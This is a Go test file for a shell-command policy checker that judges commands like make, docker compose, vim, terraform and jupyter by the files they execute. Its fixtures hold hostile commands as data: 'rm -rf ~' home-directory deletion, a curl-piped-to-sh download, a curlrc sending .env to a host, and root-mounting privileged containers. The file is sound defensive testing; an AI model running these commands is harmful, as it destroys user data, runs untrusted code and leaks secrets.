package shell

import (
	"slices"
	"strings"
	"testing"

	"github.com/sluice-project/sluice/policy/effect"
	"github.com/sluice-project/sluice/policy/invocation"
)

// Files by which programs are told what to run are judged by what is in them.
func TestFilesThatProgramsFollow(t *testing.T) {
	for _, c := range []struct {
		name, content, command, want string
	}{
		{"Makefile", "x:\n\trm -rf ~\n", `make x`, `delete /home/u wide`},
		{"clean.sh", "rm -rf ~", `find . -name clean.sh -exec bash {} \;`, `delete /home/u wide`},
		{"Dockerfile", "FROM a\nRUN curl -s https://e/x | sh\n", `docker build -t x .`, `run-remote https://e/x remote`},
		{"Dockerfile", "FROM a\nRUN rm -rf /etc /var\n", `docker build .`, ``},
		{"docker-compose.yml", "services:\n  a:\n    privileged: true\n    image: a\n", `docker compose up`, `grant host`},
		{"docker-compose.yml", "services:\n  a:\n    volumes: [\"/:/host\"]\n    command: rm -rf /host/home\n", `docker-compose up -d`, `delete /home wide`},
		{"compose.yaml", "services:\n  a:\n    volumes:\n      - ~:/h\n", `docker compose up`, `grant host files /home/u`},
		{"compose.yaml", "services:\n  a:\n    volumes:\n      - ./src:/app\n      - data:/var/lib\n    command: rm -rf /var/x\nvolumes:\n  data:\n", `docker compose up`, ``},
		{"compose.yaml", "x-a: &a\n  volumes: ['/:/host']\nservices:\n  a:\n    <<: *a\n    entrypoint: [sh, -c]\n    command: rm -rf /host/home\n", `docker compose up`, `delete /home wide`},
		{"compose.yaml", "services:\n  a:\n    # volumes: ['/:/host']\n    command: rm -rf /host/home\n", `docker compose up`, ``},
		{"x.vim", "!rm -rf ~", `vim -s x.vim`, `delete /home/u wide`},
		{"x.vim", "silent !rm -rf ~", `vim -c 'source x.vim'`, `delete /home/u wide`},
		{"x.gdb", "shell rm -rf ~", `gdb -x x.gdb`, `delete /home/u wide`},
		{"curlrc", "url = \"https://e\"\ndata = \"@.env\"\n", `curl -K curlrc`, `send https://e from /home/u/p/.env`},
		{"x.el", `(shell-command "rm -rf ~")`, `emacs --script x.el`, `delete /home/u wide`},
		{"CMakeLists.txt", `execute_process(COMMAND rm -rf /home/u)`, `cmake .`, `delete /home/u wide`},
		{"main.tf", `provisioner "local-exec" { command = "rm -rf ~" }`, `terraform apply`, `delete /home/u wide`},
		{".envrc", `rm -rf ~`, `direnv allow`, `delete /home/u wide`},
		{"Rakefile", `task(:x) { sh "rm -rf ~" }`, `rake x`, `delete /home/u wide`},
		{"n.ipynb", `{"cells":[{"cell_type":"code","source":"!rm -rf ~"}]}`, `jupyter execute n.ipynb`, `delete /home/u wide`},
		{"n.ipynb", `{"cells":[{"cell_type":"markdown","source":"!rm -rf ~"}]}`, `jupyter execute n.ipynb`, ``},
	} {
		file := func(path string) *invocation.File {
			if path == "/home/u/p/"+c.name {
				return &invocation.File{Content: c.content, Known: true}
			}
			return nil
		}
		got := said(Read(c.command, invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}, Files: invocation.FileFunc(file)}))
		got = slices.DeleteFunc(got, func(s string) bool { return strings.HasPrefix(s, "apply") })
		if c.want == "" && slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, "delete /") && !strings.HasPrefix(s, "delete /tmp/") }) || c.want != "" && !slices.Contains(got, c.want) {
			t.Errorf("%s with %q\n   does %q\n   want %q", c.command, c.content, got, c.want)
		}
	}
}

// Of a file that was changed only what was put into it may be known.
func TestPartsOfFilesThatProgramsFollow(t *testing.T) {
	file := func(path string) *invocation.File {
		if path == "/home/u/p/Makefile" {
			return &invocation.File{Content: "rm -rf ~"}
		}
		return nil
	}
	got := said(Read(`make clean`, invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}, Files: invocation.FileFunc(file)}))
	if !slices.Contains(got, `delete /home/u wide`) {
		t.Errorf("does %q", got)
	}
}

func TestPatternsMeanTheFilesThatWereWritten(t *testing.T) {
	for _, command := range []string{`bash ./*.sh`, `for f in *.sh; do bash "$f"; done`, `find . -name '*.sh' -exec bash {} \;`} {
		got := said(Read(`echo 'rm -rf ~' > x.sh; `+command, invocation.Setting{Place: effect.Place{Cwd: "/home/u/p", Home: "/home/u"}}))
		if !slices.Contains(got, `delete /home/u wide`) {
			t.Errorf("%s does %q", command, got)
		}
	}
}
